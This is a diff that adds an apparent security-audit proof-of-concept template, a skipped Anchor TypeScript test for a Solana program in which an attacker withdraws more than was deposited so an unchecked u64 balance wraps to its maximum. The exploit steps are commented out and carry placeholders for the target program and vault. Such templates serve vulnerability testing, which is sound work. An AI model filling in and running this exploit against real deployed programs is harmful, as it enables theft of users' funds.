@@ -0,0 +1,45 @@
+// PoC Template: Unchecked Balance Arithmetic (Anchor TypeScript test)
+// Vulnerability: Balance or lamport arithmetic wraps instead of failing
+// Chain: Solana/Anchor, run with `anchor test`
+//
+// The attacker withdraws more than they deposited and the balance wraps;
+// see unchecked_arithmetic.rs for the vulnerable pattern and the fix.
+
+import * as anchor from "@coral-xyz/anchor";
+import { BN, Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey } from "@solana/web3.js";
+import { assert } from "chai";
+
+// ============================================================
+// EXPLOIT TEST (Mocha)
+// ============================================================
+describe("unchecked_arithmetic exploit", () => {
+  const provider = anchor.AnchorProvider.env();
+  anchor.setProvider(provider);
+  const program = anchor.workspace.{{PROGRAM_NAME=my_program|camel}} as Program;
+  const attacker = Keypair.generate();
+
+  before(async () => {
+    assert.ok(program.programId.equals(new PublicKey("{{PROGRAM_ID}}")), "workspace program is not the target");
+    const signature = await provider.connection.requestAirdrop(attacker.publicKey, 10 * LAMPORTS_PER_SOL);
+    await provider.connection.confirmTransaction({ signature, ...(await provider.connection.getLatestBlockhash()) });
+  });
+
+  // Drop .skip once the steps below are filled in
+  it.skip("wraps the balance on an oversized withdrawal", async () => {
+    // 1. A vault holding a small balance
+    // const vault = new PublicKey("{{VAULT_ACCOUNT}}");
+    // const deposited = new BN(1);
+
+    // 2. Withdraw more than was deposited
+    // await program.methods
+    //   .withdraw(deposited.addn(1))
+    //   .accounts({ vault, owner: attacker.publicKey })
+    //   .signers([attacker])
+    //   .rpc();
+
+    // 3. Should have failed; with unchecked math the balance wraps instead
+    // const state = await program.account.vault.fetch(vault);
+    // assert.ok(state.balance.eq(new BN("18446744073709551615")), "Exploit: balance wrapped to u64::MAX");
+  });
+});